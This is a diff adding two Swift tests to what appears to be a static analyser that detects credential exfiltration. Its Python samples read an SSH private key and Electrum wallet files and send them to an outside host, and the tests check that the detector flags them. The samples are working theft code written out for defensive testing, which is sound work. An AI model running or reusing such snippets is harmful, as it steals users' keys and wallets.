@@ -752,3 +752,42 @@ extension ExfiltrationBehaviourTests {
     #expect(found.confidence != .low)
   }
 }
+
+extension ExfiltrationBehaviourTests {
+  @Test("urllib's Request carries its positional body to a send")
+  func requestPositionalBody() throws {
+    let found = try findings(
+      "exfil-flow-credentials",
+      Example(
+        "import os, urllib.request\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nreq = urllib.request.Request('https://api.acme-sync.io/u', key.encode())\nurllib.request.urlopen(req)\n",
+        language: .python))
+    let finding = try #require(found.first)
+    #expect(finding.line == 3)
+    #expect(finding.chain == .exfiltration)
+    #expect(finding.message.contains("Request"))
+  }
+
+  @Test("Files packed into an archive opened on a buffer flow with the buffer")
+  func archiveBuffer() throws {
+    let code = """
+      import glob, io, os, tarfile, urllib.request
+      def collect():
+          found = []
+          for f in glob.glob(os.path.expanduser("~/.electrum/wallets/*")):
+              found.append(f)
+          send(found)
+      def send(found):
+          buf = io.BytesIO()
+          with tarfile.open(fileobj=buf, mode="w:gz") as t:
+              for f in found:
+                  t.add(f)
+          urllib.request.urlopen(urllib.request.Request("https://api.acme-sync.io/u", buf.getvalue()))
+
+      """
+    let found = try findings("exfil-flow-credentials", Example(code, language: .python))
+    #expect(found.contains { $0.line == 12 && $0.chain == .exfiltration && $0.message.contains("crypto wallet") })
+    // The same script packing a file nobody owes a secret to sends no credential.
+    let plain = try findings("exfil-flow-credentials", Example(code.replacingOccurrences(of: "~/.electrum/wallets/*", with: "./reports/*.csv"), language: .python))
+    #expect(plain.isEmpty)
+  }
+}
